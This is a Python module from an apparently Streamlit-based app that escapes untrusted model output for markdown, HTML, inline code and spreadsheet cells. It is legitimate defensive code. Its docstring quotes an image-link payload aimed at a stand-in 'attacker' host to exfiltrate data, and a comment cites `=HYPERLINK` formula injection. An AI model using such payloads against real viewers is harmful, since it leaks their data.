"""Untrusted text made safe to render: one place for every page.

Model answers, error bodies, engine and model names, run names, notes, tags, imported
labels and whatever an engine reports about itself are all untrusted: a shared server shows
them to every viewer. Streamlit renders markdown almost everywhere (captions, alerts,
titles, tab, expander and metric labels, radio options, tooltips), images included, so
`![x](http://attacker/?q=...)` in an error body made each viewer's browser fetch that URL,
and a model name with backticks broke out of its code span.

| where the text goes | helper |
|---|---|
| a markdown element, as one line (a name, a label) | `md_line` |
| a markdown element, line breaks kept (an error body, notes) | `md_text` |
| inline code (a URL, a model name shown as code) | `code_span` |
| an answer that may keep its formatting | `safe_answer` |
| HTML given to `unsafe_allow_html` or `st.html` | `html_text` |
| a cell of a CSV file or of a table (`st.dataframe`'s toolbar downloads it as CSV) | `spreadsheet_cell`, `spreadsheet_rows` |

Plotly figures have their own pass (services.core.figures.inert). No Streamlit import: the page
decides where the text goes, these helpers decide what it may contain.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Iterable
from typing import Any

#: Characters that make markdown anywhere in a line: emphasis, code, links and images (`[`),
#: HTML, tables, strikethrough, entities, KaTeX's `$` and Streamlit's `:emoji:` shortcodes.
_INLINE_SPECIAL = re.compile(r"([\\`*_{}\[\]<>|~$&:])")
#: What starts a block at the head of a line: heading, quote, list, setext underline, numbered list.
_BLOCK_START = re.compile(r"^(#|>|[-+=]|\d+[.)])")
#: Shown between `!` and `[` inside code, where a backslash would be visible: the pair no
#: longer starts an image wherever the renderer decides the code ends, and looks the same.
_WORD_JOINER = "\u2060"
_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_INLINE_IMAGE = re.compile(
    r"(?<!\\)!\[([^\[\]\n]*)\]\(\s*<?([^()\s<>]*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)"
)
_BACKTICKS = re.compile(r"`+")
#: GFM turns bare addresses into links after parsing, escapes or not (`http\\://x` still
#: became a link in Streamlit): an invisible word joiner inside `://`, after `www` and before
#: `@` leaves nothing its autolinker recognises.
_AUTOLINK = re.compile(r"(?i)(://|\bwww\.|@)")
#: `[name]: http://...` at the head of a line makes `[name]` anywhere a link.
_LINK_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]\n]+\]:)", re.MULTILINE)


# ---------------------------------------------------------------------------------------
# Markdown that can only be text
# ---------------------------------------------------------------------------------------


def _unlinked(match: re.Match[str]) -> str:
    found = match.group(1)
    if found == "@":
        return _WORD_JOINER + "@"
    if found == "://":
        return ":" + _WORD_JOINER + "//"
    return found[:3] + _WORD_JOINER + "."


def _escape(line: str) -> str:
    line = _AUTOLINK.sub(_unlinked, line)
    line = _INLINE_SPECIAL.sub(r"\\\1", line)
    block = _BLOCK_START.match(line)
    return line if block is None else line[: block.end() - 1] + "\\" + line[block.end() - 1 :]


def md_text(text: str) -> str:
    """Text shown literally by st.markdown/st.caption/st.error: no markup, links, images or
    icons; line breaks kept (leading spaces dropped, so no line becomes a code block)."""
    return "  \n".join(_escape(line.strip()) for line in str(text).splitlines())


def md_line(text: str | None) -> str:
    """One line of literal text (a name, a prompt summary, a widget label)."""
    return _escape(" ".join(str(text or "").split()))


def code_span(text: str | None) -> str:
    """An inline code span that shows `text` whole, backticks included: the fence is longer
    than any run of backticks inside, and the padding spaces are dropped by the renderer."""
    value = " ".join(str(text or "").split())
    if not value:
        return ""
    longest = max((len(run) for run in _BACKTICKS.findall(value)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {value} {fence}"


def safe_answer(text: str) -> str:
    """A model's answer as markdown that keeps its formatting (paragraphs, lists, code) but
    can load nothing and link nowhere: images become a text placeholder and no `![` is left
    to form one; links, link definitions, `<...>` and bare addresses show as their text."""
    out: list[str] = []
    for is_code, part in _split_code(text or ""):
        if is_code:
            out.append(part.replace("![", "!" + _WORD_JOINER + "["))
        else:
            part = _INLINE_IMAGE.sub(_image_placeholder, part)
            part = _LINK_DEFINITION.sub(r"\1\\[", part)
            part = _AUTOLINK.sub(_unlinked, part).replace("](", "]\\(").replace("<", "\\<")
            out.append(part.replace("![", "!\\["))
    return "".join(out)


def _image_placeholder(match: re.Match[str]) -> str:
    alt = md_line(match.group(1)) or "no description"
    url = md_line(match.group(2))
    return f"\\[image not loaded: {alt}{' · ' + url if url else ''}\\]"


def _split_code(text: str) -> list[tuple[bool, str]]:
    """(is_code, piece) in order: fenced blocks (an unclosed fence runs to the end, as the
    renderer does while an answer streams) and inline code spans. Getting this wrong is safe
    either way: code gets a word joiner, text gets an escape; neither can form an image."""
    pieces: list[tuple[bool, str]] = []
    prose: list[str] = []
    lines = text.splitlines(keepends=True)
    i = 0
    while i < len(lines):
        opened = _FENCE_OPEN.match(lines[i])
        if opened is None or (opened.group(1)[0] == "`" and "`" in lines[i][opened.end() :]):
            prose.append(lines[i])
            i += 1
            continue
        fence = opened.group(1)
        closing = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}\s*$")
        end = next((j for j in range(i + 1, len(lines)) if closing.match(lines[j])), len(lines) - 1)
        pieces.extend(_split_inline("".join(prose)))
        prose = []
        pieces.append((True, "".join(lines[i : end + 1])))
        i = end + 1
    pieces.extend(_split_inline("".join(prose)))
    return pieces


def _split_inline(text: str) -> list[tuple[bool, str]]:
    """Inline code spans: a run of n backticks up to the next run of exactly n."""
    pieces: list[tuple[bool, str]] = []
    start = position = 0
    while True:
        run = _BACKTICKS.search(text, position)
        if run is None:
            break
        if run.start() > 0 and text[run.start() - 1] == "\\":
            position = run.end()
            continue
        closing = next(
            (m for m in _BACKTICKS.finditer(text, run.end()) if len(m.group()) == len(run.group())), None
        )
        if closing is None:
            position = run.end()
            continue
        if run.start() > start:
            pieces.append((False, text[start : run.start()]))
        pieces.append((True, text[run.start() : closing.end()]))
        start = position = closing.end()
    if start < len(text):
        pieces.append((False, text[start:]))
    return pieces


# ---------------------------------------------------------------------------------------
# HTML
# ---------------------------------------------------------------------------------------


#: Markdown's link, code and KaTeX characters as HTML references, which markdown never reads
#: as markup and the browser shows as the characters themselves.
_HTML_MARKDOWN = str.maketrans({"[": "&#91;", "]": "&#93;", "`": "&#96;", "$": "&#36;"})


def html_text(text: str | None) -> str:
    """Text for HTML given to st.markdown(unsafe_allow_html=True) or st.html: every character
    escaped, line breaks as <br> (a blank line would end the HTML block and let the rest
    render as markdown), and nothing left that markdown could turn into an image or link
    should the HTML not start a block."""
    lines = html.escape(str(text or ""), quote=True).translate(_HTML_MARKDOWN).splitlines()
    return "<br>".join(_AUTOLINK.sub(_unlinked, line.strip()) for line in lines)


# ---------------------------------------------------------------------------------------
# Cells a spreadsheet would run
# ---------------------------------------------------------------------------------------
#: A cell whose text starts with one of these is a formula to a spreadsheet (`=HYPERLINK(...)`
#: in an engine's answer would run when the CSV is opened): such cells get a leading apostrophe.
#: Spreadsheets also read the full-width forms as these (U+FF1D, U+FF0B, U+FF0D, U+FF20); other
#: compatibility forms (the small ＝ of U+FE66, ...) are caught by their NFKC form.
_FORMULA_CHARS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
#: A cell starting with one of these is neutralised whatever follows: a spreadsheet may drop them
#: and read what follows as the cell, or start a new row of cells there.
_BREAKS = frozenset("\t\r\n")


def runs_as_formula(text: str) -> bool:
    if text[:1] in _BREAKS:
        return True
    # Spreadsheets trim leading spaces (LibreOffice's import does by default) and ignore
    # zero-width and control characters: " =1+1" and "\u200b=1+1" are formulas too.
    first = next((c for c in text if not _ignorable(c)), "")
    if first in _FORMULA_CHARS:
        return True
    return not first.isascii() and unicodedata.normalize("NFKC", first)[:1] in _FORMULA_CHARS


def _ignorable(char: str) -> bool:
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp")


def spreadsheet_cell(value: Any) -> Any:
    """A value as a spreadsheet may take it: text it would run as a formula gets a leading
    apostrophe; anything else is unchanged."""
    if isinstance(value, str) and runs_as_formula(value):
        return "'" + value
    return value


def spreadsheet_rows(rows: Iterable[dict[str, Any]]) -> list[dict[str, Any]]:
    """A table's rows (names and cells) for `st.dataframe`, whose toolbar's "Download as CSV"
    writes the cells as they are: model text in them must not run when the file is opened."""
    return [{spreadsheet_cell(k): spreadsheet_cell(v) for k, v in row.items()} for row in rows]


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell, neutralised when a spreadsheet would run it: every cell of every
    CSV the product writes goes through here (services/runs/reports/streamed.py)."""
    if isinstance(value, (list, dict)):
        value = json.dumps(value, default=str)
    if value is None:
        return ""
    return spreadsheet_cell(value)
